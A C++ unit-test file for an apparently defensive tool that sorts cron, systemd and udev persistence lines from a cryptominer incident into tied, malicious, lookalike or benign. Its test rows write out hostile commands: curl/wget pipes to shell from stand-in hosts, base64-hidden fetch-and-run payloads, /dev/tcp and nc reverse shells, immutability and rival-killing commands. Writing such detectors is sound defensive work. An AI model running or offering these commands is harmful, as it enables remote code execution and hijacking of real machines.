// How persistence text is tied to the incident: indicators, playbook rules, lookalikes.
#include <doctest/doctest.h>

#include "persist/rules.h"
#include "persist/scan_context.h"
#include "playbook/playbook.h"

using namespace unmine;

namespace {
const PersistenceRules& builtin_rules() {
  static auto rules = PersistenceRules::load(Playbook::load());
  return rules;
}
}  // namespace

TEST_CASE("persistence lines: tied, lookalike or nothing") {
  IncidentIndicators ind;
  ind.paths = {"/tmp/.x/kworkerd"};
  ind.dirs = {"/tmp/.x"};
  ind.domains = {"pool.example-mine.net"};
  struct Row {
    std::string text;
    TieLevel level;
    std::string rule;
  };
  const Row rows[] = {
      {"* * * * * /tmp/.x/kworkerd -B", TieLevel::tied, "incident.path"},
      {"@reboot /tmp/.x/other", TieLevel::tied, "incident.dir"},
      {"ExecStart=/opt/run --url pool.example-mine.net:3333", TieLevel::tied, "incident.domain"},
      {"*/10 * * * * curl -fsSL http://1.2.3.4/a.sh | sh", TieLevel::malicious, "malicious.fetch_pipe_shell"},
      {"wget -q -O- http://x/y | /bin/bash", TieLevel::malicious, "malicious.fetch_pipe_shell"},
      {"bash -c \"$(curl -fsSL http://x/i.sh)\"", TieLevel::malicious, "malicious.shell_of_fetch"},
      {"sh <(wget -qO- http://x)", TieLevel::malicious, "malicious.shell_of_fetch"},
      {"echo Y3VybCBodHRwOi8vZXZpbC9hLnNoIHwgYmFzaA== | base64 -d | bash", TieLevel::malicious,
       "malicious.base64_pipe_shell"},
      // "curl http://evil/a.sh | bash" hidden in a blob, run some other way.
      {"python3 -c \"import os,base64;os.system(base64.b64decode('Y3VybCBodHRwOi8vZXZpbC9hLnNoIHwgYmFzaA=='))\"",
       TieLevel::malicious, "base64.malicious.fetch_pipe_shell"},
      {"wget http://x/m -O /var/tmp/m; chmod +x /var/tmp/m; /var/tmp/m", TieLevel::malicious,
       "malicious.fetch_chmod_exec"},
      // A payload naming the miner's folder ties, over the pattern that decodes it.
      {"echo L3RtcC8ueC94bXJpZyAtQiAtbyBob3N0OjMzMzM= | base64 -d | sh", TieLevel::tied, "base64.incident.dir"},
      {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", TieLevel::malicious, "malicious.reverse_shell"},
      {"* * * * * nc -e /bin/sh 10.0.0.1 4242", TieLevel::malicious, "malicious.reverse_shell"},
      {"/tmp/evil.sh", TieLevel::malicious, "malicious.exec_from_temp"},
      {"ExecStart=/dev/shm/.x/run", TieLevel::malicious, "malicious.exec_from_temp"},
      {"RUN+=\"/bin/sh -c '/var/tmp/.systemd/sd-run'\"", TieLevel::malicious, "malicious.exec_from_temp"},
      {"/var/tmp/.update-logs/./Update >/dev/null 2>&1 & disown", TieLevel::malicious, "malicious.exec_from_temp"},
      {"/home/pi/.configrc/a/upd>/dev/null 2>&1", TieLevel::malicious, "malicious.exec_from_hidden_folder"},
      {"chattr +i /etc/sysupdate", TieLevel::malicious, "malicious.chattr_immutable"},
      {"pkill -f kthreaddi", TieLevel::malicious, "malicious.kill_rivals"},
      {"python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"", TieLevel::malicious,
       "malicious.interpreter_base64_exec"},
      {"wrmsr -a 0xc0011020 0", TieLevel::malicious, "malicious.msr_write"},
      // Writing to /tmp, removing from it, a user's ~/.local/bin and sourcing ~/.bashrc are ordinary.
      {"echo 'Hello' > /tmp/atomic.log", TieLevel::none, ""},
      {"rm -f /tmp/backup.lock", TieLevel::none, ""},
      {"/home/alice/.local/bin/report", TieLevel::none, ""},
      {"[ -f ~/.bashrc ] && . ~/.bashrc", TieLevel::none, ""},
      {"chattr -i /etc/resolv.conf", TieLevel::none, ""},
      {"@reboot /opt/xmrig/xmrig --config=/opt/c.json", TieLevel::tied, "family"},
      {"nohup ./run -o stratum+tcp://1.2.3.4:3333", TieLevel::tied, "stratum_url"},
      {"ExecStart=/usr/bin/x -o pool.supportxmr.com:443", TieLevel::tied, "pool_domain"},
      {"ExecStart=/usr/bin/x -o gulf.moneroocean.stream:10128", TieLevel::tied, "pool_domain"},
      {"0 3 * * * root curl -fsS https://example.com/health >/dev/null", TieLevel::lookalike, "lookalike.fetcher"},
      {"cd /tmp/.hidden && ls", TieLevel::lookalike, "lookalike.hidden_tmp_dir"},
      {"17 * * * * root cd / && run-parts --report /etc/cron.hourly", TieLevel::none, ""},
      {"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@host", TieLevel::none,
       ""},
      {"[ -x /usr/bin/xmrigger-report ] && /usr/bin/xmrigger-report", TieLevel::none, ""},
  };
  for (auto& r : rows) {
    CAPTURE(r.text);
    auto t = builtin_rules().judge(r.text, ind);
    CHECK(static_cast<int>(t.level) == static_cast<int>(r.level));
    CHECK(t.rule == r.rule);
  }
}

TEST_CASE("base64 payloads: text decodes, keys and noise do not") {
  auto p = decoded_base64_payloads("x Y3VybCBodHRwOi8vZXZpbC9hLnNoIHwgYmFzaA== y", 24);
  REQUIRE(p.size() == 1);
  CHECK(p[0] == "curl http://evil/a.sh | bash");
  // Unpadded runs decode by whole quanta.
  auto q = decoded_base64_payloads("L3RtcC8ueC94bXJpZyAtQg", 16);
  REQUIRE(q.size() == 1);
  CHECK(q[0].starts_with("/tmp/.x/xmrig"));
  CHECK(decoded_base64_payloads("AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl", 24).empty());
  CHECK(decoded_base64_payloads("short", 24).empty());
}

TEST_CASE("hostile long lines are judged without blowing the stack") {
  IncidentIndicators none;
  std::string line = "curl " + std::string(2'000'000, 'a') + " | sh";
  auto t = builtin_rules().judge(line, none);
  CHECK(t.level != TieLevel::tied);  // the pipe lies past the regex window: a cut, not a crash
  std::string near = "curl http://x/a | sh " + std::string(2'000'000, 'b');
  CHECK(builtin_rules().judge(near, none).tied());
}

TEST_CASE("campaign key words and MSR write options") {
  auto& r = builtin_rules();
  CHECK(r.campaign_word_in("hilde@teamtnt.red") == "teamtnt");
  CHECK(r.campaign_word_in("MDRFCKR") == "mdrfckr");
  CHECK_FALSE(r.campaign_word_in("alice@laptop"));
  CHECK(r.enables_msr_writes("options msr allow_writes=on"));
  CHECK(r.enables_msr_writes("  options msr foo=1 allow_writes=1"));
  CHECK_FALSE(r.enables_msr_writes("# options msr allow_writes=on"));
  CHECK_FALSE(r.enables_msr_writes("options msr allow_writes=off"));
  CHECK_FALSE(r.enables_msr_writes("options kvm ignore_msrs=1"));
}

TEST_CASE("paths a command runs or reads, not where it writes") {
  CHECK(paths_in_command("*/30 * * * * sh /etc/newinit.sh >/dev/null 2>&1") ==
        std::vector<std::string>{"/etc/newinit.sh"});
  CHECK(paths_in_command("ExecStart=/root/c3pool/xmrig --config=/root/c3pool/config.json") ==
        std::vector<std::string>{"/root/c3pool/xmrig", "/root/c3pool/config.json"});
  CHECK(paths_in_command("echo hi > /tmp/log; cat </etc/x") == std::vector<std::string>{});
  CHECK(paths_in_command("RUN+=\"/bin/sh -c '/var/tmp/.s/run'\"") ==
        std::vector<std::string>{"/bin/sh", "/var/tmp/.s/run"});
}

TEST_CASE("pool domains: exact entries and sub-domains of listed suffixes") {
  auto& r = builtin_rules();
  CHECK(r.is_pool_domain("pool.supportxmr.com"));
  CHECK(r.is_pool_domain("POOL.SUPPORTXMR.COM."));
  CHECK(r.is_pool_domain("eu.new.supportxmr.com"));
  CHECK_FALSE(r.is_pool_domain("supportxmr.com.example.org"));
  CHECK_FALSE(r.is_pool_domain("deb.debian.org"));
  CHECK(r.pool_domain_in("x -o stratum+tcp://pool.supportxmr.com:3333 -u w") == "pool.supportxmr.com");
  CHECK_FALSE(r.pool_domain_in("http://deb.debian.org/debian"));
}

TEST_CASE("family words match whole names only") {
  CHECK(contains_family_word("/opt/xmrig/xmrig -b", "xmrig"));
  CHECK(contains_family_word("xmrig-6.21.0/xmrig", "xmrig"));
  CHECK_FALSE(contains_family_word("/usr/bin/xmrigger", "xmrig"));
  CHECK_FALSE(contains_family_word("axmrig", "xmrig"));
}
